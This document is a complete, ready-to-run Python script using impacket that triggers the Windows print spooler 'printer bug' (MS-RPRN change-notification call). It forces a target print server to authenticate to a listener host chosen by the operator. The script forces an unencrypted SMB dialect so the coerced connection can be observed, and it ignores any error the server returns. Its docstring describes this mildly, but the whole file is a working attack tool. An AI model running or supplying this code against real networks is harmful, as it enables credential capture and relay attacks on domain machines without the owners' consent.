#!/usr/bin/python3
"""Asks a print server to report its changes to another host (MS-RPRN 3.1.4.10.4): coerce.py SERVER LISTENER 'DOMAIN/user' PASSWORD"""
import sys

from impacket.dcerpc.v5 import rprn, transport
from impacket.dcerpc.v5.dtypes import NULL
from impacket.smb3structs import SMB2_DIALECT_21

server, listener, name, password = sys.argv[1:]
domain, user = name.split("/")
pipe = transport.DCERPCTransportFactory(rf"ncacn_np:{server}[\pipe\spoolss]")
pipe.set_credentials(user, password, domain)
pipe.preferred_dialect(SMB2_DIALECT_21)  # with SMB 3 it would encrypt, and the call could not be seen
rpc = pipe.get_dce_rpc()
rpc.connect()
rpc.bind(rprn.MSRPC_UUID_RPRN)
handle = rprn.hRpcOpenPrinter(rpc, f"\\\\{server}\0")["pHandle"]
request = rprn.RpcRemoteFindFirstPrinterChangeNotificationEx()
request["hPrinter"], request["fdwFlags"], request["fdwOptions"] = handle, rprn.PRINTER_CHANGE_ADD_JOB, 0
request["pszLocalMachine"], request["dwPrinterLocal"], request["pOptions"] = f"\\\\{listener}\0", 0, NULL
try:
    rpc.request(request)
except Exception as refusal:  # it has been asked, whatever it answers
    print(refusal)
